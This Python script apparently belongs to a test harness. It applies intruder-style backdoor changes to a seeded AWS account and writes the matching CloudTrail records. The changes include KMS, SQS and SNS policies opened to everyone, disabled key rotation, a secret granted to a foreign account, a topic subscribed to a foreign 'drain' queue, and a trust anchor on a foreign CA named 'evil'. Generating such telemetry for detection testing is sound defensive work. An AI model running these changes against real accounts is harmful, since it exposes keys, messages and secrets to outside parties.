"""On an account seeded by policies.py (argv[1]: its output), opens each
resource-policy door the way an intruder would: the known key's policy
grants everyone and its rotation goes off, the known queue and topic are
opened to everyone, the known secret is granted to a foreign account, the
limited topic gets a subscription to a foreign queue, a trust anchor on a
new CA appears, and the account founds its own organization. Writes the
CloudTrail records AWS would have written into argv[2]/records.json."""
import json
import sys

from common import Trail, client, emit

made = json.loads(sys.argv[1])
E, FOREIGN = "us-east-1", "999988887777"
acct = made["account"]
trail = Trail(acct)
open_doc = lambda action, resource: json.dumps({"Version": "2012-10-17", "Statement": [
    {"Sid": "backdoor", "Effect": "Allow", "Principal": "*", "Action": action, "Resource": resource}]})

kms = client("kms", E)
key = made["key_known"]
kms.put_key_policy(KeyId=key, PolicyName="default", Policy=open_doc("kms:*", "*"))
trail.record("PutKeyPolicy", "kms.amazonaws.com", {"keyId": key, "policyName": "default"})
kms.disable_key_rotation(KeyId=key)
trail.record("DisableKeyRotation", "kms.amazonaws.com", {"keyId": key})

sqs = client("sqs", E)
url = sqs.get_queue_url(QueueName=made["queue_known"])["QueueUrl"]
sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": open_doc("sqs:*", "*")})
trail.record("SetQueueAttributes", "sqs.amazonaws.com",
             {"queueUrl": f"https://sqs.{E}.amazonaws.com/{acct}/{made['queue_known']}",
              "attributes": {"Policy": open_doc("sqs:*", "*")}})

sns = client("sns", E)
topic = f"arn:aws:sns:{E}:{acct}:{made['topic_known']}"
sns.set_topic_attributes(TopicArn=topic, AttributeName="Policy", AttributeValue=open_doc("sns:*", topic))
trail.record("SetTopicAttributes", "sns.amazonaws.com",
             {"topicArn": topic, "attributeName": "Policy", "attributeValue": open_doc("sns:*", topic)})
limited = f"arn:aws:sns:{E}:{acct}:{made['topic_limited']}"
sub = sns.subscribe(TopicArn=limited, Protocol="sqs", Endpoint=f"arn:aws:sqs:{E}:{FOREIGN}:drain")
trail.record("Subscribe", "sns.amazonaws.com",
             {"topicArn": limited, "protocol": "sqs", "endpoint": f"arn:aws:sqs:{E}:{FOREIGN}:drain"},
             {"subscriptionArn": sub["SubscriptionArn"]})

sm = client("secretsmanager", E)
secret = made["secret_known"]
grant = json.dumps({"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{FOREIGN}:root"},
     "Action": "secretsmanager:GetSecretValue", "Resource": "*"}]})
sm.put_resource_policy(SecretId=secret, ResourcePolicy=grant)
trail.record("PutResourcePolicy", "secretsmanager.amazonaws.com",
             {"secretId": f"arn:aws:secretsmanager:{E}:{acct}:secret:{secret}-Ab12Cd"})

ra = client("rolesanywhere", E)
anchor = ra.create_trust_anchor(name="backdoor", enabled=True, source={
    "sourceType": "AWS_ACM_PCA",
    "sourceData": {"acmPcaArn": f"arn:aws:acm-pca:{E}:{FOREIGN}:certificate-authority/evil"}})["trustAnchor"]
trail.record("CreateTrustAnchor", "rolesanywhere.amazonaws.com", {"name": "backdoor", "enabled": True},
             {"trustAnchor": {"trustAnchorId": anchor["trustAnchorId"], "name": "backdoor"}})

org = client("organizations", E).create_organization(FeatureSet="ALL")["Organization"]
trail.record("CreateOrganization", "organizations.amazonaws.com", {"featureSet": "ALL"},
             {"organization": {"id": org["Id"]}})

trail.write(sys.argv[2])
emit({"changed": [f"kms.key/{E}/{key}", f"sqs.queue/{E}/{made['queue_known']}",
                  f"sns.topic/{E}/{made['topic_known']}", f"sns.topic/{E}/{made['topic_limited']}",
                  f"secretsmanager.secret/{E}/{secret}",
                  f"rolesanywhere.trust_anchor/{E}/{anchor['trustAnchorId']}",
                  "organizations.membership/global/account"],
      "organization": org["Id"]})
